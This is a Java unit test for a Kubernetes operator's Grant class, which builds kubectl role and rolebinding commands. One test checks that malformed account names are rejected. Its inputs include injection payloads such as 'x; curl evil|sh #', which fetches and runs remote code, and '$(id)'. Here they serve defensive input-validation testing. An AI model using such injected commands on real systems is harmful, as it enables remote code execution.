package dev.monitored.operator.decision;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class GrantTest {
  @Test
  void makesARoleAndBindsTheAccountToIt() {
    var grant = new Grant("team-a", "monitoring", "k8s", List.of("services", "pods"));

    assertThat(grant.commands())
        .hasToString(
            "[kubectl create role prometheus.monitoring.k8s --namespace team-a"
                + " --verb=get,list,watch --resource=services,pods &&"
                + " kubectl create rolebinding prometheus.monitoring.k8s --namespace team-a"
                + " --role=prometheus.monitoring.k8s --serviceaccount=monitoring:k8s]");
  }

  @ParameterizedTest
  @ValueSource(strings = {"x; curl evil|sh #", "", "a:b", "a,b", "a b", "$(id)", "-x"})
  void nothingIsGrantedToAnAccountThatIsNotNamedAsOne(String account) {
    assertThat(new Grant("team-a", "monitoring", account, List.of("pods")).commands()).isEmpty();
  }
}
